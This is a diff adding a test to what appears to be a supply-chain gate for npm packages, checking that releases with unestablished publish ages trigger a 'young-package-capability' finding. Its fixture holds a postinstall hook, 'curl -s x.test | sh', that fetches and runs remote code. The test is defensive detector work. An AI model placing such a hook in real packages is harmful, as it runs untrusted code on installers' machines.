@@ -13,6 +13,7 @@ import orjson
 
 from mirrorgate.gate import Gated, VersionRecord, gate
 from mirrorgate.gate.baseline import Baseline, Budget, Unsettled, choose_baseline
+from mirrorgate.gate.capabilitycheck import capability_findings
 from mirrorgate.gate.publishtimes import first_publish, first_publish_of, order_contradicted
 from mirrorgate.moments import iso_now, moment
 from mirrorgate.npm.contents import Contents
@@ -98,6 +99,32 @@ def test_an_age_the_times_cannot_establish_is_young_for_the_young_package_signal
     assert unknown is not None
     assert "first publish cannot be established" in unknown.evidence
     assert old is None  # the control: an age the times establish, and old
+
+
+def test_an_age_the_times_cannot_establish_is_young_for_the_capability_signal() -> None:
+    # the default's young-package-capability (issue 55) reads the same first publish: an
+    # established release (a baseline found) of a package whose times establish no age is
+    # judged alone, as a young one's
+    downloads = Release("1.0.1", Contents(), commands={"postinstall": "curl -s x.test | sh"})
+    defaults = parse_rules("", "rules.toml").release
+    versions = [make_version("timeless", version, size=0, published=NOW - timedelta(days=400))
+                for version in ("1.0.0", "1.0.1")]
+    document: dict[str, Any] = orjson.loads(orjson.dumps(
+        make_package("timeless", versions).packument(UPSTREAM)))
+    dated = gate(parse_name("timeless"), None, document, rules=RULES, now=NOW,
+                 origin=Origin.of(UPSTREAM))
+    timeless = gate(parse_name("timeless"), None, {**document, "time": {}}, rules=RULES,
+                    now=NOW, origin=Origin.of(UPSTREAM))
+    before = dated.versions["1.0.0"]
+
+    [unknown] = capability_findings(downloads, before, None, timeless, defaults, NOW,
+                                    looked=True)
+    old = capability_findings(downloads, before, None, dated, defaults, NOW, looked=True)
+
+    assert timeless.first_published is None
+    assert unknown.signal == "young-package-capability"
+    assert "first publish cannot be established" in unknown.evidence
+    assert old == []  # the control: an age the times establish, and old
 
 
 def scrambled(name: str, fresh: dict[str, timedelta] | None = None) -> Gated:
